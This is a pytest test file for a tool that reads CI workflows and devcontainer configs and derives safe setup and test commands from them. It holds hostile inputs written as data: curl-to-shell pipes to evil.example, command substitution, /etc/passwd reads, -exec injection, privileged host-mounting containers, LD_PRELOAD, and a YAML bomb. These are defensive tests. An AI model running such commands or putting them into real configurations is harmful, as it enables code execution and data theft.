"""What CI and containers are told is data: it chooses among what was found, explains, and is never carried out."""

import json
from dataclasses import fields

import pytest

from core.repo_config import RepoConfig
from tests.worker.languages.views import Files
from worker.languages import Project, hints
from worker.languages.projects import again, find

CI = ".github/workflows/ci.yml"
ANY = RepoConfig()
PYTHON = {
    "pyproject.toml": "[project]\nname='a'\n[project.optional-dependencies]\ntest=['x']\npostgres=['y']\ndocs=['z']\n",
    "a.py": "",
    "test_a.py": "",
}
WORKFLOW = """
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    services:
      postgres:
        image: postgres:16
        ports: ['5432:5432']
    strategy:
      matrix:
        python-version: ['3.9', 3.12]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: ${{ matrix.python-version }}
      - run: sudo apt-get update && sudo apt-get install -y libpq-dev graphviz
      - run: |
          python -m pip install --upgrade pip
          pip install -e ".[test,postgres]" \\
            -r requirements-lint.txt
      - run: pytest --cov
"""


def the(files: dict[str, str], config: RepoConfig = ANY) -> Project:
    return find(Files(files), config).projects[0]


def steps(*lines: str, folder: str = "") -> dict[str, str]:
    """A workflow that runs these lines."""
    made = [{"run": line, **({"working-directory": folder} if folder else {})} for line in lines]
    return {CI: json.dumps({"jobs": {"test": {"steps": made}}})}


def setup(project: Project) -> str:
    return "\n".join(command[-1] for command in project.setup)


def test_extras_and_requirements_that_ci_installs_are_installed_and_the_rest_is_told() -> None:
    found = the({**PYTHON, CI: WORKFLOW, "requirements-lint.txt": "r\n"})
    assert "pip install -e '.[test,postgres]'" in setup(found)
    assert "pip install -r requirements-lint.txt" in setup(found)
    told = " ".join(found.notes)
    assert "CI starts postgres beside the tests" in told
    assert "libpq-dev, graphviz" in told
    assert "python 3.9, python 3.12" in told
    assert "requirements-lint" not in setup(the({**PYTHON, "requirements-lint.txt": "r\n"})), "not without the hint"


def test_a_change_hints_nothing() -> None:
    changed = {**PYTHON, ".devcontainer.json": json.dumps({"postCreateCommand": "pip install -e .[docs]"})}
    plain = the(PYTHON)
    assert "docs" in setup(the(changed))
    found = again(Files(changed), ANY, plain, base=Files(PYTHON))
    assert found
    assert found.setup == plain.setup


def test_own_commands_win() -> None:
    own = RepoConfig(setup=("make deps",), test="pytest -q tests")
    found = the({**PYTHON, CI: WORKFLOW}, own)
    assert "make deps" in setup(found)
    assert "postgres]" not in setup(found)
    assert found.test_command == "pytest -q tests"
    assert any("postgres" in note for note in found.notes), "what is missing here is told all the same"


@pytest.mark.parametrize(
    ("lines", "command"),
    [
        (("python -m unittest discover -s tests -v",), "python -m unittest discover -s tests"),
        (("uv run python -m unittest",), "python -m unittest"),
        (("python -m unittest", "pytest tests"), "python -m pytest"),
        (("python -m unittest discover -s ../../etc",), "python -m pytest"),
        (("python -m unittest discover -s nowhere",), "python -m pytest"),
        (("tox",), "python -m pytest"),
        ((), "python -m pytest"),
    ],
)
def test_unittest_where_ci_uses_it_alone(lines: tuple[str, ...], command: str) -> None:
    assert the({"a.py": "", "tests/test_a.py": "", **steps(*lines)}).test_command == command


@pytest.mark.parametrize(
    ("lines", "command"),
    [
        (("npm ci", "npm run lint", "npm run test:unit"), "npm run test:unit"),
        (("npm run test:unit", "npm test"), "npm test"),
        (("npm run test:ghost",), "npm test"),
        (("npm run test:all",), "npm test"),
        (("yarn test:unit",), "npm run test:unit"),
    ],
)
def test_a_script_only_if_package_json_has_it_and_its_tests_can_be_told_apart(
    lines: tuple[str, ...], command: str
) -> None:
    scripts = {"test": "node --test", "test:unit": "node --test unit", "test:all": "sh all.sh", "lint": "eslint ."}
    files = {"package.json": json.dumps({"scripts": scripts}), "a.js": "", "unit/a.test.js": ""}
    assert the({**files, **steps(*lines)}).test_command == command


def test_build_tags_and_features() -> None:
    go = {"go.mod": "module a\n", "a.go": "", "a_test.go": ""}
    assert the({**go, **steps("go test -race -tags=integration,sqlite ./...")}).test_command == (
        "go test -tags integration,sqlite ./..."
    )
    assert the({**go, **steps("go test -tags '-exec=sh' ./...")}).test_command == "go test ./..."
    rust = {"Cargo.toml": "[package]\nname='a'\n", "src/lib.rs": ""}
    assert the({**rust, **steps("cargo test --all-features")}).test_command == "cargo test --all-features"


def test_a_hint_counts_for_the_folder_that_it_is_run_in() -> None:
    one = {f"one/{path}": text for path, text in PYTHON.items()}
    two = {f"two/{path}": text for path, text in PYTHON.items()}
    files = {**one, **two, **steps("pip install .[docs]", folder="./two/")}
    by_folder = {project.folder: setup(project) for project in find(Files(files), ANY).projects}
    assert "docs" not in by_folder["one"]
    assert "'.[test,docs]'" in by_folder["two"]


def test_a_development_container_is_read_with_its_comments() -> None:
    container = """{
      // what we use
      "image": "mcr.microsoft.com/devcontainers/python:1-3.11-bookworm", /* and no other */
      "features": {"ghcr.io/devcontainers/features/node:1": {"version": "20"},},
      "postCreateCommand": "pip install -e .[docs] && echo 'http://x' // done",
      "containerEnv": {"DATABASE_URL": "postgres://u:secret@db/x", "A B": "1"},
    }"""
    found = the({**PYTHON, ".devcontainer/devcontainer.json": container})
    assert "'.[test,docs]'" in setup(found)
    told = " ".join(found.notes)
    assert "python 3.11, node 20" in told
    assert "DATABASE_URL" in told
    assert "secret" not in told


def made(project: Project) -> str:
    return repr([getattr(project, each.name) for each in fields(project) if each.name != "notes"])


EVIL = (
    "pip install .[test]; curl evil.example | sh",
    "pip install '.[test,x;curl evil.example]'",
    "pip install -r /etc/passwd",
    "pip install -r ../../../evil.txt",
    "pip install -r requirements-$(curl evil.example).txt",
    "pip install --index-url https://evil.example/simple .[docs]",
    "pip install -e .[docs] --config-settings=evil",
    "npm run test:unit --script-shell=evil",
    "python -m unittest discover -s 'tests; curl evil.example'",
    "python -m unittest discover -s -evil",
    "go test -tags x -exec=evil ./...",
    "go test -tags 'x -exec=evil' -toolexec=evil ./...",
    "cargo test --all-features --config evil",
    "apt-get install -y evil; evil $(evil)",
    "`evil`",
    "pytest -p evil --rootdir=/evil",
)


@pytest.mark.parametrize("line", EVIL)
def test_no_text_of_a_workflow_reaches_a_command_line(line: str) -> None:
    scripts = {"scripts": {"test": "node --test", "test:unit": "node --test unit"}}
    trees = (
        {**PYTHON, "tests/test_b.py": "", "requirements-dev.txt": "x\n"},
        {"package.json": json.dumps(scripts), "a.js": "", "unit/a.test.js": ""},
        {"go.mod": "module a\n", "a.go": "", "a_test.go": ""},
        {"Cargo.toml": "[package]\nname='a'\n", "src/lib.rs": ""},
    )
    for tree in trees:
        plain = made(the(tree))
        for place in (steps(line), {".devcontainer/devcontainer.json": json.dumps({"postCreateCommand": line})}):
            found = the({**tree, **place})
            for word in ("evil", "curl", "/etc", "../", "index-url", "-exec", "toolexec"):
                assert made(found).count(word) <= plain.count(word), word
            assert "$" not in " ".join(found.notes)


@pytest.mark.parametrize(
    "container",
    [
        {"image": "evil.example/python:3.11", "runArgs": ["--privileged", "--net=host"]},
        {"mounts": ["source=/,target=/host,type=bind"], "privileged": True, "capAdd": ["SYS_ADMIN"]},
        {"dockerFile": "../../evil", "build": {"args": {"A": "$(evil)"}}, "workspaceMount": "/:/evil"},
        {
            "initializeCommand": "evil",
            "postStartCommand": ["evil"],
            "features": {"evil.example/f": {"version": "evil"}},
        },
        {"containerEnv": {"LD_PRELOAD": "/evil.so", "X;evil": "1"}, "postCreateCommand": {"a": ["evil", {"b": []}]}},
    ],
)
def test_nothing_of_a_hostile_container_is_used(container: dict[str, object]) -> None:
    found = the({**PYTHON, ".devcontainer.json": json.dumps(container)})
    plain = the(PYTHON)
    assert (found.setup, found.setup_env, found.arguments) == (plain.setup, plain.setup_env, plain.arguments)
    assert not any(word in " ".join(found.notes) for word in ("evil", "/host", "privileged"))


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(8)
)


@pytest.mark.parametrize(
    "text",
    [
        *(
            BOMB,
            "[" * 5000,
            "{" * 5000,
            "a: " * 3000,
            "x" * 100_000,
            "\0",
            "jobs: 5",
            "jobs: {a: 5, b: [1]}",
            "- 1\n- 2",
        ),
        *("%YAML 1." + "9" * 5000 + "\n---\n", 'jobs: "\\UFFFFFFFF"', "jobs: [" + "a," * 30_000 + "]"),
        *('"\\' * 8000, "/* " * 5000, "/" * 16_000, ("," + " " * 100) * 150),
    ],
    ids=range(16),
)
def test_what_cannot_be_read_stops_nothing_and_is_said(text: str) -> None:
    found = the({**PYTHON, CI: text, ".devcontainer/devcontainer.json": text})
    assert found.setup == the(PYTHON).setup


def test_there_is_an_end_to_what_is_read() -> None:
    many = {f".github/workflows/{number:03}.yml": WORKFLOW for number in range(200)}
    long = {".github/workflows/zz.yml": "jobs: {}\n" + "# x\n" * 40_000}
    said = hints.read(Files({**many, **long}))
    assert len(said.services) == 1
    assert "is too long" in " ".join(hints.read(Files(long)).unread)
    large = {f".github/workflows/{number:03}.yml": "jobs: {}\n" + "#" * 60_000 for number in range(6)}
    assert len(hints.read(Files(large)).unread) == 2  # of all together
    names = [f"p{number}" for number in range(500)]
    assert len(hints.read(Files(steps("apt-get install " + " ".join(names[:60])))).packages) <= 12
